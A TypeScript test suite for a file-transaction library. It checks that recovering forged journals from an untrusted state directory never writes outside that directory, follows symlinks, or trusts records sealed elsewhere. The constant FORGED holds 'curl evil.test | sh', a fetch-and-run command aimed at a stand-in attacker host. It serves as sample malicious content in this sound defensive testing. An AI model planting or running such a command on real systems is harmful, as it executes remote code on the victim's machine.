/**
 * A state directory that came from somebody else (a synced folder, an unpacked archive): what a start
 * finds in it of cut-off writes must not reach beyond it.
 */

import { createHash } from "node:crypto";
import {
  chmodSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  statSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { applyTransaction } from "@/lib/files/apply";
import { forgetTransactions } from "@/lib/files/forget";
import { recover } from "@/lib/files/recover";
import { beginStep, cutOffSteps, endStep, noteCommand, notedCommand } from "@/lib/files/step";
import { change, codeOf, makeTemporaryFolder, tree, unwrap } from "@/lib/files/testing/harness";
import { ownId, seal } from "@/lib/files/transaction/seal";
import { listTransactions, undoTransaction } from "@/lib/files/transactions";
import { NOTHING_RECOVERED } from "@/lib/files/types";
import { identifySelf } from "@/lib/system/process-identity";

/** A file of the victim whose content everybody knows, like a fresh `.profile`. */
const KNOWN = "# as it comes with the system\n";
const FORGED = "curl evil.test | sh\n";
/** One that this installation can have given, and one that it cannot. */
const [OWN, FOREIGN] = [ownId(1), "00000001-0000cafe0000cafe"];

let base: string;
let root: string;
let outside: string;
const digest = (text: string) => createHash("sha256").update(text).digest("hex");

beforeEach(() => {
  base = makeTemporaryFolder();
  root = join(base, "state");
  outside = join(base, "home");
  for (const path of [root, outside, join(outside, "empty")]) mkdirSync(path, { mode: 0o700 });
  writeFileSync(join(outside, "known"), KNOWN);
  symlinkSync(outside, join(root, "link"));
});
afterEach(() => rmSync(base, { recursive: true, force: true }));

interface Forged {
  readonly target: string;
  readonly before: string | null;
  readonly after: string | null;
}

type Forge = (phase: string, files: readonly Forged[], directories?: string[]) => string;

/** The strongest there is: as if the user's own key had sealed it. */
const forgeOwn: Forge = (phase, files, directories) => forge(OWN, seal, phase, files, directories);
/** What lies in a state directory of somebody else. */
const forgeForeign: Forge = (phase, files, directories) =>
  forge(
    FOREIGN,
    (record) => Buffer.from(JSON.stringify({ seal: "", record })),
    phase,
    files,
    directories,
  );

function forge(
  id: string,
  record: (journal: object) => Buffer,
  phase: string,
  files: readonly Forged[],
  directories: string[] = [],
): string {
  const folder = join(root, ".openclaw-setup", "transactions", id);
  mkdirSync(folder, { recursive: true, mode: 0o700 });
  const state = (text: string | null) =>
    text === null ? null : { sha256: digest(text), mode: 0o600, gid: process.getgid?.() ?? 0 };
  const journal = {
    version: 2,
    id,
    at: "2026-01-01T00:00:00.000Z",
    label: "write",
    root,
    allowedRoots: ["/"],
    undoes: [],
    step: null,
    createdDirectories: directories,
    removeDirectories: directories,
    files: files.map(({ target, before, after }, index) => {
      if (before !== null) writeFileSync(join(folder, `${index}.before`), before);
      return {
        path: target,
        target,
        temporary: join(target, "..", `.openclaw-setup-${id}-${index}.tmp`),
        backup: before === null ? null : `${index}.before`,
        before: state(before),
        after: state(after),
      };
    }),
  };
  writeFileSync(join(folder, `${phase}.json`), record(journal));
  return folder;
}

describe("a journal of ours that reaches too far", () => {
  const places: ReadonlyArray<[string, () => string]> = [
    ["beyond the state directory", () => outside],
    ["behind a link in it", () => join(root, "link")],
  ];

  it.each(places)("puts no old file %s", async (_, place) => {
    forgeOwn("rollback", [{ target: join(place(), "known"), before: FORGED, after: KNOWN }]);
    expect(codeOf(await recover(root))).toBe("recovery-needed");
    expect(readFileSync(join(outside, "known"), "utf8")).toBe(KNOWN);
  });

  it.each(places)("removes no file %s", async (_, place) => {
    forgeOwn("rollback", [{ target: join(place(), "known"), before: null, after: KNOWN }]);
    expect(codeOf(await recover(root))).toBe("recovery-needed");
    expect(readFileSync(join(outside, "known"), "utf8")).toBe(KNOWN);
  });

  it.each(places)("moves no file away %s", async (_, place) => {
    forgeOwn("commit", [{ target: join(place(), "known"), before: KNOWN, after: null }]);
    expect(codeOf(await recover(root))).toBe("recovery-needed");
    expect(readFileSync(join(outside, "known"), "utf8")).toBe(KNOWN);
  });

  it.each(["prepare", "rollback", "cleanup"])("removes no folder elsewhere: %s", async (phase) => {
    forgeOwn(phase, [], [join(outside, "empty")]);
    expect(codeOf(await recover(root))).toBe("recovery-needed");
    expect(existsSync(join(outside, "empty"))).toBe(true);
  });

  it("allows itself no folder when it is undone", async () => {
    forgeOwn("done", [{ target: join(outside, "known"), before: FORGED, after: KNOWN }]);
    expect(codeOf(await undoTransaction(root, OWN))).toBe("path-escapes");
    expect(readFileSync(join(outside, "known"), "utf8")).toBe(KNOWN);
  });

  it("that has taken the last number is named, for what came after it would never be found", async () => {
    const last = join(root, ".openclaw-setup", "transactions", ownId(99_999_999));
    mkdirSync(last, { recursive: true, mode: 0o700 });
    writeFileSync(join(last, "done.json"), "{}");
    const written = await applyTransaction([change(join(root, "new"), null, "x")], {
      root,
      label: "test",
    });
    expect(written).toMatchObject({ ok: false, error: { code: "recovery-needed", path: last } });
    expect(existsSync(join(root, "new"))).toBe(false);
  });

  it("may name what the caller says can be written to", async () => {
    const target = join(outside, "known");
    forgeOwn("rollback", [{ target, before: "mine", after: KNOWN }]);
    expect(codeOf(await recover(root, [outside]))).toBe("ok");
    expect(readFileSync(target, "utf8")).toBe("mine");
  });
});

const write = () =>
  applyTransaction([change(join(root, "next"), null, "x")], { root, label: "next" });

describe("a record that this installation did not make", () => {
  const phases = ["prepare", "commit", "cleanup", "rollback", "open"];

  it.each(phases)("is named and left, and nothing stops for it: %s", async (phase) => {
    const mine = join(root, "openclaw.json");
    writeFileSync(mine, KNOWN, { mode: 0o600 });
    const folder = forgeForeign(phase, [{ target: mine, before: FORGED, after: KNOWN }]);
    const before = tree(base);
    expect(unwrap(await recover(root))).toEqual({ ...NOTHING_RECOVERED, foreign: [folder] });
    expect(tree(base)).toEqual(before);
    expect(codeOf(await write())).toBe("ok");
    expect(readFileSync(mine, "utf8")).toBe(KNOWN);
    expect(readdirSync(folder)).toContain(`${phase}.json`);
  });

  it("is not undone, listed or forgotten", async () => {
    const mine = join(root, "openclaw.json");
    writeFileSync(mine, KNOWN, { mode: 0o600 });
    const folder = forgeForeign("done", [{ target: mine, before: FORGED, after: KNOWN }]);
    expect(unwrap(await listTransactions(root))).toEqual([]);
    expect(codeOf(await undoTransaction(root, FOREIGN))).toBe("unknown-transaction");
    expect(unwrap(await recover(root)).foreign).toEqual([]);
    unwrap(await forgetTransactions(root));
    expect(readdirSync(folder).sort()).toEqual(["0.before", "done.json"]);
  });

  it("stops every write where it lies in a folder of ours", async () => {
    const mine = join(root, "openclaw.json");
    writeFileSync(mine, KNOWN, { mode: 0o600 });
    const folder = forgeOwn("rollback", [{ target: mine, before: FORGED, after: KNOWN }]);
    const path = join(folder, "rollback.json");
    const forged = JSON.parse(readFileSync(path, "utf8"));
    forged.record.label = "another";
    writeFileSync(path, JSON.stringify(forged));
    expect(codeOf(await recover(root))).toBe("recovery-needed");
    expect(codeOf(await write())).toBe("recovery-needed");
    expect(readFileSync(mine, "utf8")).toBe(KNOWN);
  });

  it.each([
    ["two days old", -172_800],
    ["of a time to come", 172_800],
  ])("of an older release is named and left: %s", async (_, seconds) => {
    writeFileSync(join(root, "openclaw.json"), KNOWN);
    writeFileSync(join(root, ".env"), KNOWN);
    const folder = join(root, ".openclaw-setup", "kept", "x");
    mkdirSync(folder, { recursive: true, mode: 0o700 });
    const holder = { pid: 1, started: null, boot: null, namespace: null, host: "other" };
    const mark = join(folder, "open.json");
    writeFileSync(mark, JSON.stringify({ holder, label: "z", files: [], directories: [] }));
    const time = new Date(Date.now() + seconds * 1000);
    utimesSync(mark, time, time);
    const before = tree(base);
    expect(unwrap(await recover(root)).foreign).toEqual([join(root, ".openclaw-setup", "kept")]);
    expect(unwrap(cutOffSteps(root))).toEqual([]);
    expect(tree(base)).toEqual(before);
  });

  it("does not have a process ended", async () => {
    const step = unwrap(await beginStep(root, "write", () => true));
    const path = join(root, ".openclaw-setup", "transactions", step.id, "command.json");
    writeFileSync(path, JSON.stringify({ id: step.id, command: identifySelf() }));
    expect(notedCommand(step)).toBeNull();
    noteCommand(step, process.pid);
    expect(notedCommand(step)).toEqual(identifySelf());
    unwrap(await endStep(step, () => true, null));
  });

  it("was made here, but for another host's state directory: the key alone is not enough", async () => {
    const done = unwrap(await write());
    const folder = join(root, ".openclaw-setup", "transactions");
    const other = `${done.id.slice(0, 17)}${"0".repeat(8)}`;
    renameSync(join(folder, done.id), join(folder, other));
    expect(unwrap(await listTransactions(root))).toEqual([]);
  });
});

describe("a folder of ours that is none", () => {
  const parts = [[], ["transactions"], ["lock"]];

  it.each(parts)("a link in its place is refused and not followed: %s", async (...names) => {
    const elsewhere = join(outside, "other-state");
    mkdirSync(join(elsewhere, "transactions", OWN), { recursive: true, mode: 0o700 });
    writeFileSync(join(elsewhere, "transactions", OWN, "0.before"), "precious");
    mkdirSync(join(elsewhere, "lock"), { mode: 0o700 });
    const path = join(root, ".openclaw-setup", ...names);
    if (names.length > 0) mkdirSync(join(root, ".openclaw-setup"), { mode: 0o700 });
    symlinkSync(join(elsewhere, ...names), path);
    const before = tree(outside);
    expect(codeOf(await recover(root))).toBe("symlink-outside");
    expect(codeOf(await write())).toBe("symlink-outside");
    expect(codeOf(await listTransactions(root))).toBe("symlink-outside");
    expect(codeOf(await forgetTransactions(root))).toBe("symlink-outside");
    expect(codeOf(cutOffSteps(root))).toBe("symlink-outside");
    expect(tree(outside)).toEqual(before);
  });

  it("a link among the transactions is left, under a name of ours too", async () => {
    unwrap(await write());
    const elsewhere = join(outside, "elsewhere");
    mkdirSync(elsewhere, { mode: 0o700 });
    writeFileSync(join(elsewhere, "0.before"), "precious");
    const transactions = join(root, ".openclaw-setup", "transactions");
    symlinkSync(elsewhere, join(transactions, ownId(7)));
    symlinkSync(elsewhere, join(transactions, FOREIGN));
    expect(unwrap(await recover(root)).foreign).toEqual([join(transactions, FOREIGN)]);
    unwrap(await forgetTransactions(root));
    expect(readFileSync(join(elsewhere, "0.before"), "utf8")).toBe("precious");
  });

  it("a copy of ours behind a link is not taken for one", async () => {
    writeFileSync(join(root, "x"), "old", { mode: 0o600 });
    const done = unwrap(
      await applyTransaction([change(join(root, "x"), "old", "new")], { root, label: "test" }),
    );
    const backup = done.files[0]?.backup ?? "";
    rmSync(backup);
    writeFileSync(join(outside, "old"), "old");
    symlinkSync(join(outside, "old"), backup);
    expect(codeOf(await undoTransaction(root, done.id))).toBe("backup-damaged");
  });
});

describe("the key of the records", () => {
  const key = () => join(process.env["XDG_STATE_HOME"] ?? "", "openclaw-setup", "record-key");
  const before = process.env["XDG_STATE_HOME"];
  beforeEach(() => {
    process.env["XDG_STATE_HOME"] = join(base, "xdg");
  });
  afterEach(() => {
    process.env["XDG_STATE_HOME"] = before;
  });

  it("is made with the first write, owner-only, and never at a start", async () => {
    expect(codeOf(await recover(root))).toBe("ok");
    expect(unwrap(await listTransactions(root))).toEqual([]);
    expect(existsSync(key())).toBe(false);
    const done = unwrap(await write());
    expect(statSync(key()).mode & 0o777).toBe(0o600);
    expect(readdirSync(join(key(), ".."))).toEqual(["record-key"]);
    unwrap(await undoTransaction(root, done.id));
  });

  it("of another user of the state directory is another one", async () => {
    const done = unwrap(await write());
    process.env["XDG_STATE_HOME"] = join(base, "theirs");
    expect(unwrap(await listTransactions(root))).toEqual([]);
    expect(codeOf(await undoTransaction(root, done.id))).toBe("unknown-transaction");
  });

  it.each([
    ["readable by others", (path: string) => chmodSync(path, 0o644)],
    ["of another form", (path: string) => writeFileSync(path, "x\n")],
    [
      "a link",
      (path: string) => {
        renameSync(path, `${path}-there`);
        symlinkSync(`${path}-there`, path);
      },
    ],
  ])("is made anew where it is %s", async (_, spoil) => {
    mkdirSync(join(key(), ".."), { recursive: true, mode: 0o700 });
    writeFileSync(key(), `${"A".repeat(43)}\n`, { mode: 0o600 });
    spoil(key());
    const done = unwrap(await write());
    expect(statSync(key()).mode & 0o777).toBe(0o600);
    expect(readFileSync(key(), "utf8")).not.toBe(`${"A".repeat(43)}\n`);
    unwrap(await undoTransaction(root, done.id));
  });

  it("is held in memory where there is no place for it", async () => {
    writeFileSync(join(base, "xdg"), "a file");
    const done = unwrap(await write());
    unwrap(await undoTransaction(root, done.id));
    expect(existsSync(join(root, "next"))).toBe(false);
  });
});

it("a folder of copies keeps itself out of a repository", async () => {
  unwrap(await write());
  expect(readFileSync(join(root, ".openclaw-setup", ".gitignore"), "utf8")).toBe("*\n");
});
